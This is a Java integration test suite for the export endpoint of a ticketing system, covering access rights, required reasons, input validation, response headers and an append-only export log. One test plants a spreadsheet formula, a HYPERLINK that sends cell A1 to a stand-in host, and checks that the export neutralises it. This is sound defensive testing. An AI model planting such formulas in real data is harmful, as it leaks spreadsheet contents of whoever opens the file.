package id.sigap.door.export;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import id.sigap.promises.Promise;
import id.sigap.promises.Shows;
import id.sigap.testing.Api;
import id.sigap.testing.Database;
import id.sigap.testing.ExportApi;
import id.sigap.testing.Reports;
import id.sigap.testing.XlsxTable;
import io.quarkus.test.junit.QuarkusTest;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** Who may take a list away, how it comes, what is written down of it, and what is refused. */
@QuarkusTest
@Shows(Promise.C15)
class ExportIT {

    private static JsonObject list(String list) {
        return ExportApi.list(list);
    }

    private static JsonObject with(String list, String member, Object value) {
        return list(list).put(member, value);
    }

    private static String refusal(String user, JsonObject asked) {
        return ExportApi.refusal(ExportApi.as(user).post(asked));
    }

    @Test
    void nobodyTakesAwayAListWithoutSayingWhoTheyAre() {
        assertEquals(
                "401 UNAUTHENTICATED", ExportApi.refusal(ExportApi.anonymous().post(list("publicTickets"))));
        assertEquals(
                "401 UNAUTHENTICATED",
                ExportApi.refusal(ExportApi.withToken("x").post(list("publicTickets"))));
    }

    /** The lists' own rights: the same as of the schema. */
    @Test
    void aListThatIsNotForSomebodyIsNoneAsAFile() {
        assertEquals("403 FORBIDDEN", refusal("warga", list("inbox")));
        assertEquals("403 FORBIDDEN", refusal("petugas", list("tickets")));
        assertEquals("403 FORBIDDEN", refusal("validator", list("unitTickets")));
        assertEquals("403 FORBIDDEN", refusal("petugas", with("inbox", "sort", "NEWEST")));
        assertEquals(
                "403 FORBIDDEN",
                refusal(
                        "petugas",
                        with("inbox", "filter", new JsonObject().put("submitted", Map.of("from", "2026-11-01")))));
    }

    @Test
    void whoeverWorksHereSaysWhy() {
        long before = Database.count("export_log");
        JsonObject silent = list("inbox");
        silent.remove("reason");
        assertEquals("422 REASON_MISSING reason", refusal("petugas", silent));
        assertEquals("422 REASON_MISSING reason", refusal("petugas", with("inbox", "reason", " . ")));
        assertEquals(before, Database.count("export_log"));
        JsonObject own = list("myTickets");
        own.remove("reason");
        assertEquals(200, ExportApi.as("warga").post(own).statusCode(), "their own they need no reason for");
    }

    @Test
    void whatIsNotUnderstoodIsRefusedByItsName() {
        assertEquals("400 REQUEST_MALFORMED list", refusal("warga", list("nodes")));
        assertEquals("400 REQUEST_MALFORMED list", refusal("warga", new JsonObject()));
        assertEquals("400 REQUEST_MALFORMED format", refusal("warga", with("myTickets", "format", "PDF")));
        assertEquals("400 REQUEST_MALFORMED sort", refusal("warga", with("publicTickets", "sort", "NEWEST")));
        assertEquals("400 REQUEST_MALFORMED byteOrderMark", refusal("warga", with("myTickets", "byteOrderMark", 1)));
        assertEquals("400 REQUEST_MALFORMED", refusal("warga", with("myTickets", "unknown", 1)));
        assertEquals("400 REQUEST_MALFORMED filter", refusal("warga", with("followedTickets", "filter", Map.of())));
        assertEquals("400 REQUEST_MALFORMED filter", filtered("statusses", new JsonArray().add("DONE")));
        assertEquals("400 REQUEST_MALFORMED filter.statuses", filtered("statuses", new JsonArray().add("NEVER")));
        assertEquals("400 REQUEST_MALFORMED filter.statuses", filtered("statuses", "DONE"));
        assertEquals("400 REQUEST_MALFORMED filter.statuses", filtered("statuses", new JsonArray().add(1)));
        assertEquals("400 FILTER_EMPTY filter.statuses", filtered("statuses", new JsonArray()));
        assertEquals(
                "400 FILTER_TOO_LONG filter.within",
                filtered("within", new JsonArray(java.util.Collections.nCopies(51, "31"))));
        assertEquals("400 CATEGORY_UNKNOWN filter.categoryCodes", filtered("categoryCodes", new JsonArray().add("x")));
        assertEquals("400 FILTER_EMPTY filter.due", filtered("due", new JsonObject()));
        assertEquals("400 REQUEST_MALFORMED filter.due.from", filtered("due", Map.of("from", "kemarin")));
        assertEquals(
                "400 DAYS_OUT_OF_ORDER filter.due", filtered("due", Map.of("from", "2026-11-02", "to", "2026-11-01")));
        assertEquals("400 REQUEST_MALFORMED filter.box.south", filtered("box", new JsonObject()));
        assertEquals("400 BOX_INVALID filter.box", filtered("box", box(-100, 106, -6, 107)));
        assertEquals("400 BOX_EMPTY filter.box", filtered("box", box(-6, 106, -6, 107)));
        assertEquals("400 BOX_OVER_DATE_LINE filter.box", filtered("box", box(-7, 107, -6, 106)));
        assertEquals(
                "400 SEARCH_TOO_LONG filter.text",
                filtered("text", "satu dua tiga empat lima enam tujuh delapan sembilan"));
    }

    private static String filtered(String member, Object value) {
        return refusal("warga", with("myTickets", "filter", new JsonObject().put(member, value)));
    }

    private static JsonObject box(double south, double west, double north, double east) {
        return new JsonObject()
                .put("south", south)
                .put("west", west)
                .put("north", north)
                .put("east", east);
    }

    @Test
    void onlyABodyOfJsonIsTaken() {
        ExportApi warga = ExportApi.as("warga");
        String body = list("myTickets").encode();
        assertEquals("405 METHOD_NOT_ALLOWED", ExportApi.refusal(warga.send("PUT", "", "application/json", body)));
        assertEquals(
                "400 REQUEST_MALFORMED", ExportApi.refusal(warga.send("POST", "?list=x", "application/json", body)));
        assertEquals("415 MEDIA_TYPE_UNSUPPORTED", ExportApi.refusal(warga.send("POST", "", "text/plain", body)));
        assertEquals("400 REQUEST_MALFORMED", ExportApi.refusal(warga.send("POST", "", "application/json", "[]")));
        assertEquals("400 REQUEST_MALFORMED", ExportApi.refusal(warga.send("POST", "", "application/json", "{")));
        assertEquals(
                "413 BODY_TOO_LARGE",
                ExportApi.refusal(warga.send("POST", "", "application/json", " ".repeat(40_000) + body)));
    }

    /** The name of the file, the headers and the parts of a workbook tell nothing of whose it is, of what, and of when. */
    @Test
    void aFileSaysNothingOfItself() {
        for (String format : List.of("CSV", "XLSX")) {
            JsonObject asked = with("publicTickets", "format", format).put("filter", Map.of("text", "tidakada"));
            HttpResponse<byte[]> answer = ExportApi.as("warga").post(asked);
            assertEquals(
                    new TreeSet<>(List.of(
                            "cache-control",
                            "content-disposition",
                            "content-security-policy",
                            "content-type",
                            "transfer-encoding",
                            "x-content-type-options")),
                    new TreeSet<>(answer.headers().map().keySet()));
            assertEquals(
                    "attachment; filename=\"export." + format.toLowerCase(java.util.Locale.ROOT) + "\"",
                    answer.headers().firstValue("Content-Disposition").orElseThrow());
            assertArrayEquals(
                    answer.body(), ExportApi.as("tetangga").post(asked).body());
        }
    }

    /** What a reporter wrote is a text in the spreadsheet of whoever opens it, and no formula. */
    @Test
    void whatPeopleWroteIsNotCarriedOut() {
        String marked = UUID.randomUUID().toString().substring(0, 8);
        String evil = "=HYPERLINK(\"https://example.org/?x=\"&A1;\"" + marked + "\")";
        Map<String, Object> input = Reports.publicRubble();
        input.put("description", evil);
        String number = Reports.submit(Api.as("warga"), input).number();
        JsonObject asked = list("myTickets").put("filter", Map.of("text", marked));
        Map<String, String> row = ExportApi.as("warga").rows(asked).get(0);
        assertEquals(number, row.get("number"));
        assertEquals("'" + evil, row.get("description"));
        List<List<String>> sheet = XlsxTable.cells(
                ExportApi.as("warga").post(asked.copy().put("format", "XLSX")).body());
        assertTrue(sheet.get(1).contains(evil), sheet.toString());
        assertEquals(
                (byte) 0xEF,
                ExportApi.as("warga")
                        .post(asked.copy().put("byteOrderMark", true))
                        .body()[0]);
    }

    @Test
    void itIsWrittenDownWhoTookWhatAndWhyAndHowMuch() {
        String why = "Rapat " + UUID.randomUUID();
        List<Map<String, String>> rows = ExportApi.as("petugas")
                .rows(with("unitTickets", "reason", why).put("filter", Map.of("statuses", List.of("PROCESS", "DONE"))));
        assertEquals(
                "officer|BINAMARGA|UNIT|SHUFFLED|statuses=[PROCESS, DONE]|CSV|" + rows.size() + "|COMPLETE",
                Database.sql(
                        "select concat_ws('|', r.roles, r.unit_code, r.listing, r.sort, r.filter, r.format, e.row_count, e.outcome)"
                                + " from export_log r join export_log e on e.begun = r.position where r.reason = '"
                                + why
                                + "'"));
    }

    /** As of disclosures: what cannot be written down is not given. */
    @Test
    void withoutARecordThereIsNoExport() {
        Database.sql("alter table export_log add constraint no_record check (reason <> 'tanpa catatan') not valid");
        try {
            HttpResponse<byte[]> answer = ExportApi.as("petugas").post(with("inbox", "reason", "tanpa catatan"));
            assertEquals("500 INTERNAL", ExportApi.refusal(answer));
        } finally {
            Database.sql("alter table export_log drop constraint no_record");
        }
    }

    @Test
    void theLogIsOnlyAddedTo() {
        for (String change :
                List.of("delete from export_log", "truncate export_log cascade", "update export_log set reason = ''")) {
            assertThrows(IllegalStateException.class, () -> Database.sql(change), change);
        }
    }

    /** Member for member: of each the wrong type is noticed, which is to say that it is known. */
    @Test
    void theFilterHasWhatTheSchemasHas() {
        JsonObject type = Api.anonymous()
                .data("{ __type(name: \"TicketFilter\") { inputFields { name } } }", Map.of())
                .getJsonObject("__type");
        for (Object field : type.getJsonArray("inputFields")) {
            String name = ((JsonObject) field).getString("name");
            String told = filtered(name, new JsonArray().add(1.5).add(new JsonObject()));
            assertTrue(told.startsWith("400 REQUEST_MALFORMED filter." + name), name + ": " + told);
        }
    }
}
